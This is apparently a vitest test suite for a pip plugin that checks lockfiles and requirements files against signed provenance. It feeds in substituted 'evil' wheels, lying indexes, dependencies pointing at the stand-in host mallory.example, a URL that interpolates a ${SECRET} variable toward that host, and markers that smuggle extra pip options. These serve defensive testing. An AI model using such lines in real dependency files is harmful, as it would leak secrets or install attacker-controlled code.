import { resolve } from "../../plugins/pip/resolve/resolve.ts";
import { temporaryFolder } from "../support/folder.ts";
import { testHost } from "../support/npm-session.ts";
import { type Distribution, type Index, makeSdist, makeWheel, sha256, startIndex } from "../support/pypi.ts";
import { hasPip } from "../support/pypi/pythons.ts";
import { attest, attestationOf, pipelineOf, policyFor, provenanceOf, publishSigned } from "../support/pypi/signed.ts";
import { type Stage, setStage } from "../support/pypi/stage.ts";
import { createInstance, type Instance } from "../support/sigstore.ts";
import { createHash } from "node:crypto";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";

let instance: Instance;
let index: Index;

const GOOD = makeWheel({ name: "widget", version: "1.0.0" });
const EVIL = makeWheel({ name: "widget", version: "1.0.0", files: { "evil.py": "x = 1\n" } });
const SISTER = makeWheel({ name: "sister", version: "1.0.0" });
const SOURCE = makeSdist({ name: "widget", version: "1.0.0", mark: "/nowhere" });

beforeAll(async () => {
  instance = await createInstance();
  index = await startIndex();
  await publishSigned(index, instance, GOOD);
  // The same pipeline builds both.
  await publishSigned(index, instance, SISTER, { identity: pipelineOf("widget", "1.0.0") });
  index.publish(SOURCE);
});
afterAll(() => index.close());

const hash = ({ bytes }: Distribution) => sha256(bytes);
const sha512 = ({ bytes }: Distribution) => createHash("sha512").update(bytes).digest("hex");
const url = ({ filename }: Distribution, of = index) => `${of.origin}/files/${filename}`;

async function check(here: Stage, name: string, text: string, indexUrl = index.url) {
  here.write(name, text);
  const { exit, stdout, stderr } = await here.run(["check", name], {
    PIP_INDEX_URL: indexUrl,
    SECRET: "s3cret",
    PATH: `${join(here.environment.folder, "bin")}:${process.env["PATH"] ?? ""}`,
  });
  return { exit, said: stdout + stderr };
}

/** Which of the package's files is denied is said by name and digest. */
const namingFile = ({ filename }: Distribution, algorithm: string, hex: string): string =>
  expect.stringMatching(`file +${filename.replaceAll(".", "\\.")} ${algorithm}:${hex.slice(0, 6)}…${hex.slice(-5)}\n`);

const stage = (part: Readonly<Record<string, unknown>> = {}) =>
  setStage({ instance, policy: policyFor(["widget"], part) });

const pylock = (wheels: string, rest = "") =>
  `lock-version = "1.0"\n[[packages]]\nname = "widget"\nversion = "1.0.0"\nwheels = [${wheels}]\n${rest}`;

describe.skipIf(!hasPip)("a lock that admits more than it shows", () => {
  it("one hash of the proven file, another one of other bytes: installers take what fits either", async () => {
    const mirror = await startIndex();
    try {
      mirror.publish(EVIL);
      const wheel = (of: Distribution, at: Index) =>
        `{ name = "${GOOD.filename}", url = "${url(GOOD, at)}", hashes = { sha256 = "${hash(GOOD)}", sha512 = "${sha512(of)}" } }`;
      const both = await check(stage(), "pylock.toml", pylock(wheel(EVIL, mirror)));
      expect(both, both.said).toMatchObject({ exit: 65, said: namingFile(EVIL, "sha512", sha512(EVIL)) });
      const honest = await check(stage(), "pylock.toml", pylock(wheel(GOOD, index)));
      expect(honest.exit, honest.said).toBe(0);
    } finally {
      await mirror.close();
    }
  });

  it("a file of another package that the same pipeline signs", async () => {
    const wheel = `{ name = "${SISTER.filename}", url = "${url(SISTER)}", hashes = { sha256 = "${hash(SISTER)}" } }`;
    const named = await check(stage(), "pylock.toml", pylock(wheel));
    expect(named, named.said).toMatchObject({ exit: 66, said: expect.stringContaining("PACKAGE_MISMATCH") });
  });

  it("its hash only, with evidence by digest", async () => {
    const here = stage({ sources: { pypi: [{ directory: ".signing" }] } });
    const bundle = await attest(instance, SISTER, "widget", "1.0.0");
    here.write(`.signing/sha256-${hash(SISTER)}.sigstore.json`, bundle);
    const found = await check(here, "requirements.txt", `widget==1.0.0 --hash=sha256:${hash(SISTER)}\n`);
    expect(found, found.said).toMatchObject({ exit: 66, said: expect.stringContaining("SUBJECT_MISMATCH") });
  });

  it("an index that lists it on the wrong page changes nothing", async () => {
    const liar = await startIndex();
    try {
      const provenance = provenanceOf([attestationOf(await attest(instance, SISTER, "widget", "1.0.0"))]);
      liar.publish({ ...SISTER, project: "widget", provenance });
      const line = `widget==1.0.0 --hash=sha256:${hash(SISTER)}\n`;
      const found = await check(stage(), "requirements.txt", line, liar.url);
      expect(found, found.said).toMatchObject({ exit: 65, said: expect.stringContaining("NO_EVIDENCE") });
    } finally {
      await liar.close();
    }
  });

  it("a source distribution beside a proven wheel, by name and by hash", async () => {
    const sdist = `sdist = { name = "${SOURCE.filename}", url = "${url(SOURCE)}", hashes = { sha256 = "${hash(SOURCE)}" } }`;
    const wheel = `{ name = "${GOOD.filename}", url = "${url(GOOD)}", hashes = { sha256 = "${hash(GOOD)}" } }`;
    const named = await check(stage(), "pylock.toml", pylock(wheel, sdist));
    expect(named, named.said).toMatchObject({ exit: 65, said: namingFile(SOURCE, "sha256", hash(SOURCE)) });
    const lines = `widget==1.0.0 --hash=sha256:${hash(GOOD)} --hash=sha256:${hash(SOURCE)}\n`;
    const hashed = await check(stage(), "requirements.txt", lines);
    expect(hashed, hashed.said).toMatchObject({ exit: 65, said: expect.stringContaining("NO_EVIDENCE") });
  });

  it.each([
    ["other @ git+https://mallory.example/x.git ; sys_platform == 'win32'", 66, "GIT_DEPENDENCY"],
    ["other @ https://mallory.example/x.whl ; python_version < '3'", 66, "REMOTE_DEPENDENCY"],
    [`other==1.0.0 ; sys_platform == 'win32' --hash=sha256:${"a".repeat(64)}`, 65, "NO_RULE"],
    ["other==1.0.0 ; sys_platform == 'win32'", 66, "LOCK_UNSUPPORTED"],
  ])("what this machine would leave out: %s", async (line, exit, code) => {
    const text = `widget==1.0.0 --hash=sha256:${hash(GOOD)}\n${line}\n`;
    const found = await check(stage(), "requirements.txt", text);
    expect(found, found.said).toMatchObject({ exit, said: expect.stringContaining(code) });
  });

  it("variables of the environment are not read, and never shown", async () => {
    const text = "widget @ https://mallory.example/${SECRET}/widget-1.0.0-py3-none-any.whl\n-r ${SECRET}.txt\n";
    const found = await check(stage(), "requirements.txt", text);
    expect(found.exit).toBe(64);
    expect(found.said).not.toContain("s3cret");
    const refused = await check(stage(), "requirements.txt", text.split("\n")[0] ?? "");
    expect(refused, refused.said).toMatchObject({ exit: 66, said: expect.stringContaining("REMOTE_DEPENDENCY") });
    expect(refused.said).not.toContain("s3cret");
  });

  it("a marker that is more than a marker", async () => {
    const here = stage();
    const wheel = `{ name = "${GOOD.filename}", url = "${url(GOOD)}", hashes = { sha256 = "${hash(GOOD)}" } }`;
    here.write("pylock.toml", pylock(wheel, `marker = "python_version > '3' --config-settings=a=b"\n`));
    const { exit, stderr } = await here.pip("install", "-i", index.url, "-r", "pylock.toml");
    expect({ exit, stderr }).toMatchObject({ exit: 66, stderr: expect.stringContaining("LOCK_UNSUPPORTED") });
  });

  it("whoever wrote them, nothing but requirements comes to the resolver", async () => {
    const { environment, home, project } = stage();
    const python = {
      file: environment.python,
      cwd: project,
      project,
      folder: temporaryFolder(),
      host: testHost({ home }),
    };
    for (const line of ["widget==1.0.0 --config-settings=a=b", "-e ."]) {
      const asked = { args: ["install", "widget"], lines: [line], constraints: [], named: [] };
      await expect(resolve(asked, python)).rejects.toMatchObject({ code: "PIP_REQUIREMENTS" });
    }
  });
});
